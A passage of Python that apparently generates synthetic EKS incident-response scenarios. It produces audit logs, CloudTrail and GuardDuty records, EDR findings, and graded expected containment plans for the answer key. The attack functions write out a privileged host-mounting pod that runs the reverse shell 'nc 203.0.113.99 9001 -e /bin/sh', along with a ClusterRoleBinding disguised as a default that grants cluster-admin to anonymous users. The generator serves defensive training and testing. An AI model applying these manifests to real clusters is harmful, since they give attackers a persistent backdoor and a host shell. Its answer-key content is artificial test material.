            "cross_account_role": C["xrole_arn"], "access_entry_username_template": f"arn:aws:sts::{C['xacct']}:assumed-role/{C['xrole']}/{{{{SessionName}}}}",
            "k8s_usernames": [nm(s) for s, _ in C["sessions"]], "session_keys": [k for _, k in C["sessions"]],
            "workload": f"Deployment/kube-system/{C['deploy']}", "replicaset": f"kube-system/{C['deploy']}-{C['rs_hash']}",
            "pods": {f"kube-system/{p}": n.name for p, n, _ in C["relay_pods"]},
            "nodes": {A.name: A.instance, B_.name: B_.instance}, "not_compromised_node": {Cn.name: Cn.instance},
            "secrets_read": ["ledger/ledger-db-credentials", "ledger/ledger-signing-key"],
            "benign_access_entry": f"arn:aws:iam::{S().account}:role/{C['ro_role']}",
        },
        "joins": [
            "access key -> CloudTrail userIdentity.accessKeyId -> IAM user svc-reporting (also the benign 06:00 job: separate by source address and user agent)",
            "CreateAccessEntry requestParameters.principalArn (plain) = AssociateAccessPolicy requestParameters.principalArn (URL-encoded) = the snapshot's access entry",
            "cluster: requestParameters.name in CreateAccessEntry, requestParameters.clusterName in AssociateAccessPolicy",
            "access entry username template arn:aws:sts::135792468013:assumed-role/ledger-audit/{{SessionName}} -> audit user.username of sessions x9-sync and deploy-x9; user.extra.canonicalArn = the role ARN",
            "Deployment -> ReplicaSet (deployment-controller, ownerReferences) -> pods (replicaset-controller, ownerReferences) -> scheduler Binding / snapshot nodeName -> nodes -> providerID -> instances",
        ],
        "benign_lookalikes": [
            "svc-reporting's own 06:00 DescribeCluster / ListNodegroups from the NAT 198.51.100.71 with boto3: same user, same key",
            "Terraform's CreateAccessEntry + AssociateAccessPolicy (AmazonEKSViewPolicy, namespace ledger) for ledger-readonly from the CI runner 198.51.100.80, the same day",
            "ledger-readonly's session reading pods in ledger from the office",
            "kube-proxy privileged and aws-node hostNetwork (EKS defaults)",
        ],
        "steps": XA_STEPS,
    }
    ae = lambda arn: ["eks", "delete-access-entry", "--cluster-name", S().cluster, "--principal-arn", arn]
    expect = {
        "severity": "Critical",
        "criteria": ["critical.cluster_admin", "high.sensitive_config_exposure", "high.unauthorised_deployment_change"],
        "criteria_not": ["critical.multiple_nodes", "critical.active_exploitation"],
        "affected": [
            {"kind": "iam_user", "name": C["user"]},
            {"kind": "access_key", "name": C["key"]},
            {"kind": "iam_role", "name": C["xrole_arn"]},
            {"kind": "access_entry", "name": C["xrole_arn"]},
            {"kind": "workload", "name": C["deploy"], "namespace": "kube-system", "attributes": {"kind": "Deployment"}},
            {"kind": "pod", "name": relay[0], "namespace": "kube-system", "attributes": {"node": A.name}},
            {"kind": "pod", "name": relay[1], "namespace": "kube-system", "attributes": {"node": B_.name}},
            {"kind": "node", "name": A.name}, {"kind": "node", "name": B_.name},
            {"kind": "secret", "name": "ledger-db-credentials", "namespace": "ledger"},
            {"kind": "secret", "name": "ledger-signing-key", "namespace": "ledger"},
            {"kind": "ip", "name": C["attacker_ip"]}, {"kind": "ip", "name": C["attacker_k8s_ip"]},
        ],
        "not_affected": [
            {"kind": "node", "name": Cn.name},
            {"kind": "iam_role", "name": f"arn:aws:iam::{S().account}:role/{C['ro_role']}"},
            {"kind": "access_entry", "name": f"arn:aws:iam::{S().account}:role/{C['ro_role']}"},
            {"kind": "iam_role", "name": f"arn:aws:iam::{S().account}:role/{C['tf_role']}"},
            {"kind": "ip", "name": C["nat"]}, {"kind": "ip", "name": C["ci_ip"]},
        ],
        "recover_after": ["contain", "eradicate"],
        "plan": [
            {"phase": "contain", "argv": ["aws", "iam", "update-access-key", "--access-key-id", C["key"], "--status", "Inactive"],
             "flags": {"--user-name": C["user"]}, "blocked": False},
            {"phase": "contain", "argv": [C["xrole"]], "blocked": True, "blocked_contains": C["xacct"],
             "why": "the role lives in account 135792468013: its sessions can only be revoked there"},
            {"phase": "contain|eradicate", "argv": ae(C["xrole_arn"]), "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "cordon", A.name], "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "cordon", B_.name], "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "apply"], "stdin_contains": ["kind: NetworkPolicy", "namespace: kube-system", C["deploy"]]},
            {"phase": "contain", "argv": ["aws", "eks", "update-cluster-config", "--name", S().cluster, "--resources-vpc-config"], "blocked": False},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "deployment", C["deploy"]], "flags": {"--namespace": "kube-system"}},
        ],
        "plan_not": [
            {"phase": "contain|eradicate", "argv": ae(f"arn:aws:iam::{S().account}:role/{C['ro_role']}"),
             "why": "Terraform's access entry is legitimate"},
            {"phase": "contain", "argv": ["iam", "put-role-policy", "--role-name", C["xrole"]], "blocked": False,
             "why": "an IAM call in this account cannot revoke another account's role"},
            {"phase": "eradicate", "argv": ["iam", "delete-role", "--role-name", C["xrole"]], "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "cordon", Cn.name]},
            {"phase": "recover", "argv": ["eks", "update-cluster-config", "*0.0.0.0/0*"],
             "why": "the attacker reached the API through the public endpoint: recovery does not re-open it to everyone"},
        ],
        "plan_order": [
            [{"phase": "eradicate", "argv": ["kubectl", "delete", "deployment", C["deploy"]]},
             {"phase": "eradicate", "argv": ["kubectl", "delete", "replicaset", f"{C['deploy']}-{C['rs_hash']}"]},
             {"phase": "eradicate", "argv": ["kubectl", "delete", "pod", relay[0]]}],
        ],
    }
    counts = finish_truth(out, "access-entry-xacct", head, files, expect,
                          ("lookalike-reporting-job", "lookalike-terraform-access-entry", "lookalike-readonly-user"))
    return base, files, counts, check(base, os.path.join(out, "access-entry-xacct.truth.json"), xa_consistency)


# =============================================================================================
# Scenario 2: anonymous-binding (prod-catalog, ap-southeast-2, 2026-04-09)
# =============================================================================================
N = {}
ANON = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}


def ab_world():
    new_scenario("anonymous-binding", 20260409, "318273645091", "ap-southeast-2", "prod-catalog", "2026-04-09",
                 ["10.72.100.14", "10.72.101.230"], "4e6a8c0e2b4d6f8a0c2e4b6d8f0a2c4e")
    N.clear()
    C = N
    cluster_common(C, "prod-catalog", "v1.30.10-eks-bc803b4", "kubelet/v1.30.9-eks-5d632ec (linux/amd64) kubernetes/5d632ec")
    C["kube_proxy"] = "v1.30.7-minimal-eksbuild.2"
    C["node_role"], C["node_role_id"] = "prod-catalog-node-role", "AROAU7NRAL3WNODECAT2"
    C["ng"] = "prod-catalog-general"
    C["nodes"] = [Node("ip-10-72-21-9.ap-southeast-2.compute.internal", "10.72.21.9", "i-0d4e5f6a7b8c9d0e1", "ap-southeast-2a",
                       "ASIAU7NRAL3WCATNDA01", "2026-04-01T22:05:17Z", C["ng"]),
                  Node("ip-10-72-58-140.ap-southeast-2.compute.internal", "10.72.58.140", "i-0e5f6a7b8c9d0e1f2", "ap-southeast-2b",
                       "ASIAU7NRAL3WCATNDB02", "2026-04-01T22:05:21Z", C["ng"])]
    C["nat"] = "198.51.100.35"
    C["metrics_server"] = ("metrics-server-6b7d9f5c8-p2m7k", C["nodes"][0], "10.72.21.88")
    C["coredns_rs"] = "7d4c9b8f56"
    C["vpc"], C["cluster_sg"] = "vpc-0a2c4e6b8d0f13579", "sg-0b3d5f7a9c1e24680"
    C["subnets"] = {"ap-southeast-2a": "subnet-0d1f3b5a7c9e02468", "ap-southeast-2b": "subnet-0e2a4c6b8d0f13579"}
    C["endpoint"] = "https://6F2A8C4E0B1D3F5A7C9E2B4D6F8A0C1E.yl4.ap-southeast-2.eks.amazonaws.com"
    C["oidc"] = "6F2A8C4E0B1D3F5A7C9E2B4D6F8A0C1E"
    C["created"] = "2025-08-19T02:44:10.101000+00:00"
    C["admin_role"], C["admin_role_id"] = "platform-admin", "AROAU7NRAL3WPLATADM4"
    C["admin_session"] = "priya.raman@example.com"
    C["stolen_key"], C["own_key"] = "ASIAU7NRAL3WSTOLEN03", "ASIAU7NRAL3WPRIYA9K2"
    C["office_ip"], C["admin_ip"], C["anon_ip"] = "192.0.2.40", "203.0.113.52", "203.0.113.99"
    C["crb"] = "system:public-info-viewer-ext"
    C["pod"], C["pod_node"], C["pod_ip"] = "kube-proxy-ds9wz", C["nodes"][1], "10.72.58.140"
    C["snap"] = T("04:10:00")
    C["scanners"] = ["198.51.100.130", "192.0.2.201"]


def ab_admin_user(key, session=None):
    C = N
    s = session or C["admin_session"]
    uname = f"arn:aws:sts::{S().account}:assumed-role/{C['admin_role']}/{s}"
    return u_role(uname, [], S().account, C["admin_role"], C["admin_role_id"], s, key), uname


def ab_admin_reason(uname):
    return policy_reason(f"arn:aws:iam::{S().account}:role/{N['admin_role']}", uname)


def ab_benign():
    C = N
    # anonymous health checks allowed by the default binding (EKS's audit policy drops /healthz* and /version,
    # so only /livez and /readyz are logged), from an uptime monitor and from the VPC
    pub = crb_reason("system:public-info-viewer", "system:public-info-viewer", "Group", "system:unauthenticated")
    t = T("00:07:13.402117")
    i = 0
    while t < T("04:05:00"):
        src = [C["scanners"][0] if i % 3 else "10.72.0.12"]
        path = "/livez" if i % 2 else "/readyz"
        ua = "Mozilla/5.0 (compatible; UptimeMonitor/2.1; +https://uptime.example.com)" if i % 3 else "ELB-HealthChecker/2.0"
        audit(t, ANON, "get", path, ua=ua, src=src, reason=pub, step="lookalike-anonymous-health")
        t += timedelta(minutes=10, seconds=S().rng.randint(0, 40), microseconds=S().rng.randint(0, 999999))
        i += 1
    # an internet scanner probing before the backdoor existed: forbidden
    audit(T("01:31:08.118402"), ANON, "get", "/api/v1/pods", oref("pods"), ua="Mozilla/5.0 zgrab/0.x", src=[C["scanners"][1]],
          decision="forbid", rstatus=M.forbidden("system:anonymous", "list", "pods"), step="lookalike-anonymous-health")
    # the admin's own work from the office the afternoon before the theft (same role, same session name)
    user, uname = ab_admin_user(C["own_key"])
    kd = "kubectl/v1.30.4 (darwin/arm64) kubernetes/a51b3b7"
    K = dict(user=user, src=[C["office_ip"]], ua=kd, reason=ab_admin_reason(uname), step="lookalike-admin-office")
    audit(T("00:41:55.604118"), verb="list", uri="/api/v1/nodes?limit=500", objref=oref("nodes"), level="Request", **K)
    audit(T("00:42:31.250917"), verb="patch", uri="/apis/apps/v1/namespaces/catalog/deployments/catalog-api/scale",
          objref=oref("deployments", "catalog", "catalog-api", "apps", sub="scale"), level="RequestResponse",
          req={"spec": {"replicas": 3}}, resp={"kind": "Scale", "apiVersion": "autoscaling/v1", "spec": {"replicas": 3}}, **K)
    ident = M.id_role(C["admin_role"], C["admin_role_id"], C["admin_session"], C["own_key"], T("00:38:02"))
    ct(T("00:40:11"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=C["office_ip"],
       ua=cli_ua("eks.update-kubeconfig", "2.22.4", "3.12.6", "Darwin/24.3.0", "arm64"), step="lookalike-admin-office")


def ab_attack():
    C = N
    atk = C["admin_ip"]
    ident = M.id_role(C["admin_role"], C["admin_role_id"], C["admin_session"], C["stolen_key"], T("00:38:02"))
    ua_cli = cli_ua("sts.get-caller-identity", "2.17.12", "3.11.9", "Linux/6.8.0-45-generic", "x86_64.ubuntu.24")
    ct(T("02:44:21"), ident, "sts.amazonaws.com", "GetCallerIdentity", params=None, ip=atk, ua=ua_cli, label="attack", step="aws-recon")
    ct(T("02:44:52"), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S().cluster}, ip=atk,
       ua=ua_cli.replace("sts.get-caller-identity", "eks.update-kubeconfig"), label="attack", step="aws-recon")
    user, uname = ab_admin_user(C["stolen_key"])
    K = dict(user=user, src=[atk], ua="kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9", reason=ab_admin_reason(uname), label="attack")
    audit(T("02:45:40.338017"), verb="get", uri="/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/system:public-info-viewer",
          objref=oref("clusterrolebindings", None, "system:public-info-viewer", "rbac.authorization.k8s.io"), level="Request",
          step="k8s-recon-bindings", **K)
    crb = {"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
           "metadata": {"name": C["crb"], "labels": {"kubernetes.io/bootstrapping": "rbac-defaults"},
                        "annotations": {"rbac.authorization.kubernetes.io/autoupdate": "true"}},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
           "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:unauthenticated"},
                        {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "system:anonymous"}]}
    t = T("02:46:10.771402")
    resp = json.loads(json.dumps(crb))
    resp["metadata"].update({"uid": stable_uuid("crb/" + C["crb"]), "resourceVersion": "88412031", "creationTimestamp": iso_s(t)})
    audit(t, verb="create", uri="/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict",
          objref=oref("clusterrolebindings", None, C["crb"], "rbac.authorization.k8s.io"), code=201, level="RequestResponse",
          req=crb, resp=resp, step="k8s-create-anonymous-binding", **K)
    audit(T("02:46:44.190883"), verb="list", uri="/api/v1/pods?limit=500", objref=oref("pods"), level="Request", step="k8s-enumerate", **K)
    # anonymous requests from another address, allowed by the backdoor binding
    reason = crb_reason(C["crb"], "cluster-admin", "Group", "system:unauthenticated")
    A = dict(user=ANON, src=[C["anon_ip"]], ua="python-requests/2.31.0", reason=reason, label="attack")
    audit(T("03:15:22.503119"), verb="get", uri="/api", level="Request", step="k8s-anonymous-discovery", **A)
    audit(T("03:15:24.018442"), verb="list", uri="/api/v1/secrets", objref=oref("secrets"), step="k8s-anonymous-list-secrets", **A)
    audit(T("03:15:40.662905"), verb="get", uri="/api/v1/namespaces/catalog/secrets/catalog-db",
          objref=oref("secrets", "catalog", "catalog-db"), step="k8s-anonymous-read-secret", **A)
    audit(T("03:15:47.309127"), verb="get", uri="/api/v1/namespaces/catalog/secrets/stripe-webhook",
          objref=oref("secrets", "catalog", "stripe-webhook"), step="k8s-anonymous-read-secret", **A)
    audit(T("03:16:30.877310"), verb="list", uri="/api/v1/nodes", objref=oref("nodes"), level="Request", step="k8s-anonymous-enumerate", **A)
    ns, pod, node = "kube-system", C["pod"], C["pod_node"]
    spec = {"hostPID": True, "hostNetwork": True, "nodeName": None,
            "containers": [{"name": "kube-proxy", "image": "docker.io/library/busybox:1.36",
                            "command": ["/bin/sh", "-c", f"nc {C['anon_ip']} 9001 -e /bin/sh"],
                            "securityContext": {"privileged": True}, "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
            "volumes": [{"name": "host", "hostPath": {"path": "/"}}], "tolerations": [{"operator": "Exists"}]}
    del spec["nodeName"]
    body = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": pod, "namespace": ns, "labels": {"k8s-app": "kube-proxy"}}, "spec": spec}
    t = T("03:17:05.220614")
    pod_uid = stable_uuid(f"pod/{ns}/{pod}")
    created = audit(t, verb="create", uri=f"/api/v1/namespaces/{ns}/pods", objref=oref("pods", ns, pod), code=201, level="RequestResponse",
                    req=body, resp=dict(body, metadata=dict(body["metadata"], uid=pod_uid, creationTimestamp=iso_s(t))),
                    step="k8s-anonymous-create-pod", **A)
    tb = later(parse_t(created["stageTimestamp"]), 0, 6, 30)
    audit(tb, u_plain("system:kube-scheduler", ["system:authenticated"]), "create", f"/api/v1/namespaces/{ns}/pods/{pod}/binding",
          oref("pods", ns, pod, sub="binding"), code=201, level="RequestResponse", ua=sched_ua(C["server"]),
          req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": pod, "namespace": ns, "uid": pod_uid},
               "target": {"kind": "Node", "name": node.name}},
          resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success", "code": 201},
          reason=crb_reason("system:kube-scheduler", "system:kube-scheduler", "User", "system:kube-scheduler"),
          label="attack", step="k8s-pod-scheduled")
    tk = later(t, 2)
    audit(tk, M.u_node(node, C["node_role"], C["node_role_id"]), "create", f"/api/v1/namespaces/{ns}/serviceaccounts/default/token",
          oref("serviceaccounts", ns, "default", sub="token"), code=201, level="Request", ua=C["kubelet"], src=[node.ip],
          req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
               "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 3607,
                        "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": pod, "uid": pod_uid}}},
          label="attack", step="k8s-pod-scheduled")
    ts = later(t, 4)
    audit(ts, M.u_node(node, C["node_role"], C["node_role_id"]), "patch", f"/api/v1/namespaces/{ns}/pods/{pod}/status",
          oref("pods", ns, pod, sub="status", uid_=pod_uid), level="Request", ua=C["kubelet"], src=[node.ip],
          req={"metadata": {"uid": pod_uid}, "status": {"phase": "Running", "hostIP": node.ip, "containerStatuses": [
              {"name": "kube-proxy", "image": "docker.io/library/busybox:1.36", "ready": True, "started": True,
               "containerID": "containerd://" + M.container_id(ns, pod, "kube-proxy"), "state": {"running": {"startedAt": iso_s(ts)}}}]}},
          label="attack", step="k8s-pod-scheduled")
    N["t"] = {"crb": T("02:46:10.771402"), "secrets": T("03:15:24.018442"), "pod": t, "shell": later(t, 6)}


def ab_detections():
    C = N
    cluster = {"name": S().cluster, "arn": S().cluster_arn, "vpcId": C["vpc"], "status": "ACTIVE",
               "tags": [{"key": "env", "value": "production"}, {"key": "team", "value": "catalog"}],
               "createdAt": epoch(T("02:44:10.101", "2025-08-19"))}
    _, uname = ab_admin_user(C["stolen_key"])
    geo = lambda ip: {"ipAddressV4": ip, "organization": {"asn": "64511", "asnOrg": "EXAMPLE-HOSTING", "isp": "Example Hosting",
                                                         "org": "Example Hosting"}, "country": {"countryName": "Singapore"},
                      "city": {"cityName": "Singapore"}, "geoLocation": {"lat": 1.29, "lon": 103.85}}
    finding("1a3c5e7a9c1e3a5c7e9a1c3e5a7c9e1a", "Policy:Kubernetes/AnonymousAccessGranted", 8,
            "The system:anonymous user was granted API permissions on a Kubernetes cluster.",
            f"{uname} bound cluster-admin to system:unauthenticated (ClusterRoleBinding {C['crb']}) on EKS cluster {S().cluster}.",
            {"resourceType": "EKSCluster", "eksClusterDetails": cluster,
             "kubernetesDetails": {"kubernetesUserDetails": {"username": uname, "uid": f"aws-iam-authenticator:{S().account}:{C['admin_role_id']}",
                                                             "groups": ["system:authenticated"], "sessionName": [C["admin_session"]]}}},
            M.service_block(N["t"]["crb"], N["t"]["crb"], 1, {"actionType": "KUBERNETES_API_CALL", "kubernetesApiCallAction": {
                "requestUri": "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "verb": "create", "sourceIps": [C["admin_ip"]],
                "userAgent": "kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9", "statusCode": 201, "remoteIpDetails": geo(C["admin_ip"]),
                "parameters": json.dumps({"roleRef": "cluster-admin", "subjects": ["system:unauthenticated", "system:anonymous"]})}},
                            feature="EksAuditLogs"),
            T("02:52:33.118"), T("02:52:33.118"), step="detect-anonymous-granted")
    finding("3c5e7a9c1e3a5c7e9a1c3e5a7c9e1a3c", "CredentialAccess:Kubernetes/SuccessfulAnonymousAccess", 8,
            "An unauthenticated user invoked an API commonly used to access credentials on a Kubernetes cluster.",
            f"An API commonly used to access credentials was invoked by the system:anonymous user on EKS cluster {S().cluster}.",
            {"resourceType": "EKSCluster", "eksClusterDetails": cluster,
             "kubernetesDetails": {"kubernetesUserDetails": {"username": "system:anonymous", "uid": "", "groups": ["system:unauthenticated"]}}},
            M.service_block(N["t"]["secrets"], T("03:15:47.309"), 3, {"actionType": "KUBERNETES_API_CALL", "kubernetesApiCallAction": {
                "requestUri": "/api/v1/secrets", "verb": "list", "sourceIps": [C["anon_ip"]], "userAgent": "python-requests/2.31.0",
                "statusCode": 200, "remoteIpDetails": geo(C["anon_ip"])}}, feature="EksAuditLogs"),
            T("03:21:10.407"), T("03:21:10.407"), step="detect-anonymous-secrets")
    node, pod = C["pod_node"], C["pod"]
    cid = M.container_id("kube-system", pod, "kube-proxy")
    seen, logged = later(N["t"]["shell"], 2), later(N["t"]["shell"], 9)
    container = {"uid": cid, "name": "kube-proxy", "runtime": "containerd", "orchestrator": "Kubernetes",
                 "pod_uuid": stable_uuid(f"pod/kube-system/{pod}"),
                 "image": {"uid": "sha256:" + hashlib.sha256(b"busybox:1.36").hexdigest(), "name": "docker.io/library/busybox", "tag": "1.36"}}
    nc = {"pid": 4117, "name": "nc", "cmd_line": f"nc {C['anon_ip']} 9001 -e /bin/sh", "container": container,
          "file": {"name": "busybox", "path": "/bin/busybox", "type_id": 1}, "user": {"name": "root", "uid": "0", "type_id": 1, "type": "User"}}
    uidf = "det-20260409-0317-8d2b4f6a1c3e"
    S().OCSF.append(({
        "activity_id": 1, "activity_name": "Create", "category_name": "Findings", "category_uid": 2,
        "class_name": "Detection Finding", "class_uid": 2004, "type_uid": 200401, "type_name": "Detection Finding: Create",
        "time": epoch_ms(seen), "start_time": epoch_ms(N["t"]["shell"]), "end_time": epoch_ms(seen), "count": 1,
        "severity_id": 5, "severity": "Critical", "status_id": 1, "status": "New", "confidence_id": 3, "confidence": "High",
        "message": f"Reverse shell from privileged container kube-proxy (pod kube-system/{pod}) on {node.name}",
        "finding_info": {"uid": uidf, "title": "Reverse shell from a privileged container with the host filesystem mounted",
                         "desc": f"busybox nc connected to {C['anon_ip']}:9001 and attached /bin/sh; the container is privileged, "
                                 "shares the host PID namespace and mounts / at /host.",
                         "types": ["Reverse Shell"], "created_time": epoch_ms(seen), "first_seen_time": epoch_ms(N["t"]["shell"]),
                         "last_seen_time": epoch_ms(seen),
                         "analytic": {"uid": "LNX-RS-0112", "name": "Reverse shell by a network utility", "type_id": 1, "type": "Rule"},
                         "attacks": [{"version": "v16", "tactic": {"uid": "TA0002", "name": "Execution"},
                                      "technique": {"uid": "T1059.004", "name": "Unix Shell"}},
                                     {"version": "v16", "tactic": {"uid": "TA0004", "name": "Privilege Escalation"},
                                      "technique": {"uid": "T1611", "name": "Escape to Host"}}],
                         "data_sources": ["Process", "Network Connection"]},
        "device": {"type_id": 6, "type": "Virtual", "uid": stable_uuid("edr-device" + node.instance), "hostname": node.name, "name": node.name,
                   "ip": node.ip, "instance_uid": node.instance, "region": S().region,
                   "os": {"name": "Amazon Linux", "version": "2023", "type_id": 100, "type": "Linux"}},
        "cloud": {"provider": "AWS", "region": S().region, "zone": node.zone, "account": {"uid": S().account, "type_id": 10, "type": "AWS Account"}},
        "actor": {"process": nc},
        "evidences": [{"process": nc, "src_endpoint": {"ip": node.ip, "port": 51734}, "dst_endpoint": {"ip": C["anon_ip"], "port": 9001},
                       "connection_info": {"direction_id": 2, "direction": "Outbound", "protocol_num": 6, "protocol_name": "tcp"}}],
        "resources": [{"uid": node.instance, "name": node.name, "type": "AWS::EC2::Instance", "region": S().region},
                      {"uid": stable_uuid(f"pod/kube-system/{pod}"), "name": f"kube-system/{pod}", "type": "Kubernetes Pod",
                       "labels": [f"cluster={S().cluster}", "k8s-app=kube-proxy"]}],
        "metadata": {"version": "1.1.0", "uid": stable_uuid("ocsf-meta" + uidf), "logged_time": epoch_ms(logged), "log_name": "detections",
                     "product": {"name": "Cloud Workload Sensor", "vendor_name": "Example EDR Vendor", "version": "7.4.2"}},
    }, "attack", "detect-edr-reverse-shell"))


def ab_snapshot():
    C = N
    A, B_ = C["nodes"]
    pods = system_pod_objects(C, T("22:08:40", "2026-04-01"), ["10.72.21.40", "10.72.58.77"])
    img = f"{S().account}.dkr.ecr.ap-southeast-2.amazonaws.com/catalog-api:2026.04.07-1"
    for i, n in enumerate([A, B_, A]):
        name = f"catalog-api-58c7d9b6f4-{M.suffix('ca' + str(i))}"
        pods.append(M.make_pod(name, "catalog", T("05:12:30", "2026-04-07"), [{"name": "catalog-api", "image": img}], n,
                               n.prefix + str(150 + i), labels={"app.kubernetes.io/name": "catalog-api", "pod-template-hash": "58c7d9b6f4"},
                               owner_ref=owner_ref("ReplicaSet", "catalog-api-58c7d9b6f4", "catalog"), sa="catalog-api",
                               generate_name="catalog-api-58c7d9b6f4-"))
    bad = M.make_pod(C["pod"], "kube-system", N["t"]["pod"],
                     [{"name": "kube-proxy", "image": "docker.io/library/busybox:1.36",
                       "command": ["/bin/sh", "-c", f"nc {C['anon_ip']} 9001 -e /bin/sh"], "securityContext": {"privileged": True},
                       "volumeMounts": [{"name": "host", "mountPath": "/host"}]}], C["pod_node"], C["pod_ip"],
                     labels={"k8s-app": "kube-proxy"}, host_network=True, volumes=[{"name": "host", "hostPath": {"path": "/", "type": ""}}],
                     tolerations=[{"operator": "Exists"}])
    bad["spec"]["hostPID"] = True
    pods.append(bad)
    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
    crbs = M.system_crbs("2025-08-19T02:52:41Z") + [metrics_server_crb("2025-08-19T03:01:12Z")]
    backdoor = M.crb(C["crb"], "cluster-admin", [M.G("system:unauthenticated"), M.U("system:anonymous")], iso_s(N["t"]["crb"]),
                     labels={"kubernetes.io/bootstrapping": "rbac-defaults"}, annotations={"rbac.authorization.kubernetes.io/autoupdate": "true"})
    backdoor["metadata"]["uid"] = stable_uuid("crb/" + C["crb"])
    crbs.append(backdoor)
    crbs.sort(key=lambda o: o["metadata"]["name"])
    sas = system_serviceaccounts("2025-08-19T02:52:41Z") + [M.serviceaccount("catalog-api", "catalog", "2025-08-20T01:10:04Z")]
    nodes = [M.node_object(n, "apse2-az" + str(i + 1), C["snap"], "v1.30.9-eks-5d632ec", "ami-0a9b8c7d6e5f40312") for i, n in enumerate(C["nodes"])]
    principals = [f"arn:aws:iam::{S().account}:role/{C['node_role']}", f"arn:aws:iam::{S().account}:role/{C['admin_role']}",
                  f"arn:aws:iam::{S().account}:role/github-actions-deploy"]
    return {"pods.json": k8s_list(pods), "nodes.json": k8s_list(nodes), "clusterrolebindings.json": k8s_list(crbs),
            "serviceaccounts.json": k8s_list(sas),
            "configmaps-kube-system.json": k8s_list([M.aws_auth(f"arn:aws:iam::{S().account}:role/{C['node_role']}", "2025-08-19T02:58:10Z")]),
            "eks-describe-cluster.json": describe_cluster(C, "1.30", "eks.28", ["0.0.0.0/0"], ["api", "audit", "authenticator"],
                                                          tags={"env": "production", "team": "catalog"}),
            "eks-list-access-entries.json": {"accessEntries": sorted(principals)}}


AB_STEPS = {
    "aws-recon": "the stolen platform-admin session (priya.raman@example.com, key ASIAU7NRAL3WSTOLEN03) from 203.0.113.52: GetCallerIdentity, update-kubeconfig",
    "k8s-recon-bindings": "reads the default ClusterRoleBinding system:public-info-viewer",
    "k8s-create-anonymous-binding": "creates ClusterRoleBinding system:public-info-viewer-ext (labelled like a bootstrap default) granting cluster-admin to Group system:unauthenticated and User system:anonymous",
    "k8s-enumerate": "lists every pod",
    "k8s-anonymous-discovery": "system:anonymous from 203.0.113.99 (python-requests): API discovery, allowed by the backdoor binding (authorization.k8s.io/reason)",
    "k8s-anonymous-list-secrets": "system:anonymous lists every secret",
    "k8s-anonymous-read-secret": "system:anonymous reads catalog/catalog-db and catalog/stripe-webhook",
    "k8s-anonymous-enumerate": "system:anonymous lists nodes",
    "k8s-anonymous-create-pod": "system:anonymous creates pod kube-system/kube-proxy-ds9wz: busybox, privileged, hostPID, hostNetwork, hostPath / at /host, a reverse shell to 203.0.113.99:9001",
    "k8s-pod-scheduled": "the scheduler binds it to ip-10-72-58-140; the kubelet requests its token (kube-system/default) and reports it running",
    "detect-anonymous-granted": "GuardDuty Policy:Kubernetes/AnonymousAccessGranted",
    "detect-anonymous-secrets": "GuardDuty CredentialAccess:Kubernetes/SuccessfulAnonymousAccess",
    "detect-edr-reverse-shell": "EDR (OCSF) on the node: reverse shell from the privileged container",
    "lookalike-anonymous-health": "benign: anonymous /livez and /readyz from an uptime monitor and the load balancer, allowed by the default system:public-info-viewer binding; one scanner probe before the backdoor (403)",
    "lookalike-admin-office": "benign: the same admin (same role and session name) working from the office the hour before, with her own session key and kubectl for macOS",
    "background": "benign: kubelets, control plane, metrics; the nodes' VPC CNI and ECR calls through the NAT",
}


def ab_consistency(docs):
    problems = []
    pods = {p["metadata"]["name"]: p for p in docs["snapshot/pods.json"]["items"]}
    p = pods[N["pod"]]
    node = {n["metadata"]["name"]: n for n in docs["snapshot/nodes.json"]["items"]}[p["spec"]["nodeName"]]
    if node["spec"]["providerID"].rsplit("/", 1)[1] != docs["ocsf/edr-detection-finding.json"]["device"]["instance_uid"]:
        problems.append("ocsf: instance differs from the pod's node")
    crbs = {c["metadata"]["name"] for c in docs["snapshot/clusterrolebindings.json"]["items"]}
    if N["crb"] not in crbs or "system:public-info-viewer" not in crbs:
        problems.append("snapshot: bindings missing")
    return problems


def build_anonymous_binding(out):
    ab_world()
    C = N
    ab_benign()
    ab_attack()
    ab_detections()
    audit_background(C, T("00:05:11.704118"), T("04:05:00"), gap=(45, 80))
    cloudtrail_background(C, range(0, 5))
    base = os.path.join(out, "anonymous-binding")
    files = {}
    admin = ct_records(lambda r: r["userIdentity"].get("arn", "").endswith("/" + C["admin_session"]))
    write_ct_lookup(base, files, admin, "cloudtrail/lookup-events-priya.raman.json", lambda r: C["admin_session"])
    write_ct_s3(base, files, ct_records(lambda r: r not in admin))
    write_audit_firehose(base, files, audit_events(), ["kube-apiserver-audit-5a3c1e9f7b2d48e6a0c4f2b8d6e1a3c5",
                                                        "kube-apiserver-audit-9e7c5a3f1d2b46a8c0e2f4b6d8a1c3e5"])
    write_guardduty_eventbridge(base, files)
    write_ocsf(base, files)
    write_snapshot(base, files, ab_snapshot())
    A, B_ = C["nodes"]
    _, uname = ab_admin_user(C["stolen_key"])
    head = {
        "scenario": "anonymous-binding",
        "summary": (f"A stolen session of platform-admin ({C['admin_session']}) is used from {C['admin_ip']} to create "
                    f"ClusterRoleBinding {C['crb']}: cluster-admin for system:unauthenticated and system:anonymous on {S().cluster} "
